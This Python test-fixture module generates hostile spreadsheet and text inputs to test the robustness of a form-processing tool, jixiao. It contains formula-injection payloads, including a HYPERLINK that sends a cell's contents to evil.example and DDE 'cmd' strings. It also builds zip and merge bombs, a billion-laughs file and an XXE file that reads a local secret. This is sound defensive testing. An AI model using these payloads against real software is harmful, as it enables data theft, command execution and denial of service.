"""Hostile inputs, generated small on disk: bombs, payloads and broken values (issue 11).

Every builder writes one file into a folder and returns its path. Nothing big is committed: a
"5 GB" member is a few kilobytes of deflate, a merge over the whole sheet is one XML element.
"""

from __future__ import annotations

import io
import json
import os
import struct
import subprocess
import sys
import zipfile
import zlib
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[2]
SEED_JSON = ROOT / "examples" / "seed.json"
SEED_XLSX = ROOT / "examples" / "seed.xlsx"

#: Text payloads that must never act where jixiao writes them.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "=2+2",
    "=90%",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
CONTROL = "前\x1b[2J\x1b]8;;http://evil.example\x07点我\x1b]8;;\x07\r\x08\x00\x9b31m后"


#: Cells of 20,000 characters or so, each of a shape that could make a parser backtrack or
#: recurse (runs of digits, comparators, words, brackets, dates): parsing one must end in a
#: node or a TargetSyntaxError, quickly (tests/test_targets_errors.py checks the answer,
#: benchmarks/bench_hostile.py the time).
HUGE_CELLS = (
    "≥" + "1" * 20000,
    "1" * 20000 + "$",
    "效果明显" * 5000,
    "效果 " * 5000,
    "不少于" * 6000,
    "≥5人" * 5000,
    "1-" * 10000,
    "1," * 10000,
    "。" * 20000,
    "≥" * 20000,
    "年底" * 10000,
    "2023年12月" * 2000,
    "一二三" * 7000,
    "$" * 20000,
    "a" * 20000,
    "(" * 20000,
    "约" * 20000,
    "1" + " " * 20000 + "人",
    "百分之" * 7000,
)


def seed() -> dict[str, Any]:
    data: dict[str, Any] = json.loads(SEED_JSON.read_text(encoding="utf-8"))
    return data


def write_json(folder: Path, name: str, data: Any) -> Path:
    path = folder / name
    path.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    return path


def with_text_everywhere(text: str) -> dict[str, Any]:
    """The seed form with *text* in every text field (project … reason, goals, budget rows)."""
    data = seed()
    for key in ("project", "department", "implementer"):
        data[key] = text
    data["goals"] = {"expected": text, "actual": text}
    for ind in data["indicators"]:
        for key in ("level1", "level2", "name", "reason"):
            ind[key] = text
        ind["actual"] = text
    if data.get("budget"):
        data["budget"]["reason"] = text
        for row in data["budget"].get("rows") or ():
            row["name"] = text
    return data


# ------------------------------------------------------------------------------------------------
# workbooks

_CT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
_WB = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="表1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WB_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    "</Relationships>"
)


def sheet_xml(rows: str, tail: str = "", head: str = "") -> str:
    return (
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>{head}'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"<sheetData>{rows}</sheetData>{tail}</worksheet>"
    )


def inline(ref: str, text: str) -> str:
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def workbook(
    folder: Path, name: str, sheet: str | bytes, *, member_size: int | None = None
) -> Path:
    """A minimal .xlsx with one worksheet part (deflated). *member_size* overwrites the size the
    zip headers declare for the sheet (a zip whose headers lie)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", _CT)
        z.writestr("_rels/.rels", _RELS)
        z.writestr("xl/workbook.xml", _WB)
        z.writestr("xl/_rels/workbook.xml.rels", _WB_RELS)
        z.writestr("xl/worksheets/sheet1.xml", sheet)
    data = buf.getvalue()
    if member_size is not None:
        data = _lie_about_size(data, "xl/worksheets/sheet1.xml", member_size)
    path = folder / name
    path.write_bytes(data)
    return path


def _lie_about_size(data: bytes, member: str, size: int) -> bytes:
    """Rewrite the uncompressed size of *member* in its local and central headers."""
    out = bytearray(data)
    name = member.encode()
    # local file header: signature PK\x03\x04, uncompressed size at offset 22
    i = out.find(b"PK\x03\x04" + b"", 0)
    while i != -1:
        n = struct.unpack_from("<H", out, i + 26)[0]
        if bytes(out[i + 30 : i + 30 + n]) == name:
            struct.pack_into("<I", out, i + 22, size)
        i = out.find(b"PK\x03\x04", i + 4)
    # central directory header: signature PK\x01\x02, uncompressed size at offset 24
    i = out.find(b"PK\x01\x02")
    while i != -1:
        n = struct.unpack_from("<H", out, i + 28)[0]
        if bytes(out[i + 46 : i + 46 + n]) == name:
            struct.pack_into("<I", out, i + 24, size)
        i = out.find(b"PK\x01\x02", i + 4)
    return bytes(out)


def deflate_bomb(folder: Path, name: str, megabytes: int, *, lie: bool) -> Path:
    """A workbook whose sheet part inflates to *megabytes* of XML (whitespace inside the sheet
    data) from a few kilobytes on disk. ``lie=True`` declares 1000 bytes in the headers."""
    pad = b" " * (1 << 20)
    comp = zlib.compressobj(9, zlib.DEFLATED, -15)
    parts = [comp.compress(sheet_xml(inline("A1", "x")).encode()[:-12])]
    for _ in range(megabytes):
        parts.append(comp.compress(pad))
    parts.append(comp.compress(b"</worksheet>"))
    parts.append(comp.flush())
    raw = b"".join(parts)
    size = 1000 if lie else megabytes * (1 << 20) + 200
    return _stored_member(folder, name, raw, size)


def _stored_member(folder: Path, name: str, deflated: bytes, size: int) -> Path:
    """A workbook whose sheet part is the given raw deflate stream, declaring *size*."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", _CT)
        z.writestr("_rels/.rels", _RELS)
        z.writestr("xl/workbook.xml", _WB)
        z.writestr("xl/_rels/workbook.xml.rels", _WB_RELS)
        info = zipfile.ZipInfo("xl/worksheets/sheet1.xml", date_time=(1980, 1, 1, 0, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        z.writestr(info, b"placeholder")
    data = buf.getvalue()
    # swap the placeholder's deflate stream for ours: rebuild the archive by hand
    return _replace_member(folder / name, data, "xl/worksheets/sheet1.xml", deflated, size)


def _replace_member(path: Path, data: bytes, member: str, deflated: bytes, size: int) -> Path:
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    central = []
    for info in src.infolist():
        raw = _raw(data, info)
        crc = info.CRC
        usize = info.file_size
        if info.filename == member:
            raw, crc, usize = deflated, 0, size
        offset = out.tell()
        fname = info.filename.encode()
        out.write(
            struct.pack(
                "<4sHHHHHIIIHH",
                b"PK\x03\x04",
                20,
                0,
                8,
                0,
                0x21,
                crc,
                len(raw),
                usize,
                len(fname),
                0,
            )
        )
        out.write(fname)
        out.write(raw)
        central.append((fname, crc, len(raw), usize, offset))
    cd_start = out.tell()
    for fname, crc, csize, usize, offset in central:
        out.write(
            struct.pack(
                "<4sHHHHHHIIIHHHHHII",
                b"PK\x01\x02",
                20,
                20,
                0,
                8,
                0,
                0x21,
                crc,
                csize,
                usize,
                len(fname),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
        )
        out.write(fname)
    cd_size = out.tell() - cd_start
    out.write(
        struct.pack(
            "<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(central), len(central), cd_size, cd_start, 0
        )
    )
    path.write_bytes(out.getvalue())
    return path


def _raw(data: bytes, info: zipfile.ZipInfo) -> bytes:
    off = info.header_offset
    n, m = struct.unpack_from("<HH", data, off + 26)
    start = off + 30 + n + m
    return data[start : start + info.compress_size]


def merge_bomb(folder: Path, name: str, *, corner: bool, last: str = "XFD1048576") -> Path:
    """One merged range over the whole sheet (A1:XFD1048576, or A1:*last*). With *corner*, a
    value in the last cell too, so that clipping the range to the data does not shrink it."""
    cells = '<row r="1">' + inline("A1", "三级指标") + "</row>"
    if corner:
        row = "".join(ch for ch in last if ch.isdigit())
        cells += f'<row r="{row}">' + inline(last, "x") + "</row>"
    tail = f'<mergeCells count="1"><mergeCell ref="A1:{last}"/></mergeCells>'
    return workbook(folder, name, sheet_xml(cells, tail))


def billion_laughs(folder: Path, name: str) -> Path:
    ents = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
        for i in range(1, 10)
    )
    head = f"<!DOCTYPE worksheet [{ents}]>"
    rows = '<row r="1">' + inline("A1", "&lol9;") + "</row>"
    return workbook(folder, name, sheet_xml(rows, head=head))


def xxe(folder: Path, name: str, secret: Path) -> Path:
    head = f'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file://{secret}">]>'
    rows = '<row r="1">' + inline("A1", "&xxe;") + "</row>"
    return workbook(folder, name, sheet_xml(rows, head=head))


def huge_cell_xlsx(folder: Path, name: str, chars: int) -> Path:
    rows = '<row r="1">' + inline("A1", "长" * chars) + "</row>"
    return workbook(folder, name, sheet_xml(rows))


def many_cells_xlsx(folder: Path, name: str, rows: int, cols: int) -> Path:
    from jixiao.forms._grid import column_letter

    letters = [column_letter(c) for c in range(1, cols + 1)]
    body = "".join(
        f'<row r="{r}">' + "".join(f'<c r="{c}{r}"><v>1</v></c>' for c in letters) + "</row>"
        for r in range(1, rows + 1)
    )
    return workbook(folder, name, sheet_xml(body))


# ------------------------------------------------------------------------------------------------
# running the CLI in a bounded subprocess

_RUNNER = r"""
import resource, sys
mem, cpu = int(sys.argv[1]), int(sys.argv[2])
resource.setrlimit(resource.RLIMIT_AS, (mem, mem))
resource.setrlimit(resource.RLIMIT_CPU, (cpu, cpu))
sys.argv = ["jixiao", *sys.argv[3:]]
from jixiao.cli import main
main()
"""


def run_bounded(
    *args: str, memory_mb: int = 1024, cpu_seconds: int = 60, timeout: float = 300
) -> subprocess.CompletedProcess[str]:
    """``jixiao ARGS`` in a subprocess limited to *memory_mb* of address space and
    *cpu_seconds* of CPU: a bomb that got through would be killed, and the test would fail."""
    return subprocess.run(
        [sys.executable, "-c", _RUNNER, str(memory_mb << 20), str(cpu_seconds), *args],
        capture_output=True,
        text=True,
        encoding="utf-8",
        errors="backslashreplace",
        timeout=timeout,
        cwd=ROOT,
        env={**os.environ, "COLUMNS": "200", "PYTHONIOENCODING": "utf-8", "JIXIAO_LANG": "en"},
    )
